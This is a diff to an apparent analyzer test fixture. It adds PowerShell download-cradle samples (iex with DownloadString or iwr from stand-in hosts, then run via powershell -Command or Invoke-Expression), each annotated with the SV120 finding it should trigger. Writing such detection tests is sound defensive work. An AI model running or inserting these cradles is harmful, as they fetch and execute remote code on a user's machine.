@@ -43,3 +43,8 @@ Start-BitsTransfer -Source https://files.build-mirror.invalid/b.exe -Destination
 Invoke-WebRequest https://cdn.build-mirror.invalid/m.ps1 -OutFile m.ps1 # want "high SV120: .*downloads a file.*powershell"
 powershell -ExecutionPolicy Bypass -File .\m.ps1
 
+# a cradle held in a string is still code when something runs the string
+$cradle = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.50/c.ps1')" # want "critical SV120: .*PowerShell download cradle"
+powershell -NoProfile -Command $cradle
+$later = 'iex (iwr https://cdn.build-mirror.invalid/d.ps1 -UseBasicParsing)' # want "high SV120: .*PowerShell download cradle"
+Invoke-Expression $later
